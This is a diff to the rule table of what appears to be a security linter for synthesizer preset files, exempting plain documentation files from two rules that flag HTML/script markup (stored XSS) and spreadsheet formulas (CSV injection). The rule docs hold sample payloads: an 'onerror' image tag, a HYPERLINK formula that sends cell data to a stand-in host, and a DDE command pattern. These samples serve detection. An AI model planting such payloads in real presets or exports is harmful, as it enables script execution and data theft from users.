@@ -199,17 +199,19 @@ RULES = (
                   check_escape),
     security_rule("X064", "html-markup", LOW, "HTML or script markup in text",
                   RuleDoc("Reports `<script>`, `<iframe>`, `<img ... onerror=`, `javascript:` and similar markup in "
-                          "names, comments and other texts.",
+                          "names, comments and other texts." " Not on plain documentation (a README, LICENSE or `.md`/`.txt` file in no preset format), where "
+                          "links, addresses and names are expected.",
                           "Harmless to the synth, but preset browsers, shop pages, forums and HTML reports that show "
                           "the text unescaped run it (stored XSS).",
                           '`"comments": "<img src=x onerror=alert(1)>"`', "Remove the markup."),
-                  check_markup),
+                  check_markup, on_docs=False),
     security_rule("X065", "spreadsheet-formula", LOW, "Text is a spreadsheet formula (CSV injection)",
                   RuleDoc("Reports texts that start with `=`, `+`, `-` or `@` followed by a function call or a DDE "
-                          "link (`=HYPERLINK(...)`, `@SUM(...)`, `-cmd|...`).",
+                          "link (`=HYPERLINK(...)`, `@SUM(...)`, `-cmd|...`)." " Not on plain documentation (a README, LICENSE or `.md`/`.txt` file in no preset format), where "
+                          "links, addresses and names are expected.",
                           "Librarians export pack listings to CSV; a spreadsheet that opens the export runs the formula "
                           "(data exfiltration via HYPERLINK/WEBSERVICE, commands via DDE).",
                           '`"preset_name": "=HYPERLINK(\\"http://x/?\\"&A1,\\"Pad\\")"`',
                           "Rename the preset so it does not start with a formula character."),
-                  check_formula),
+                  check_formula, on_docs=False),
 )
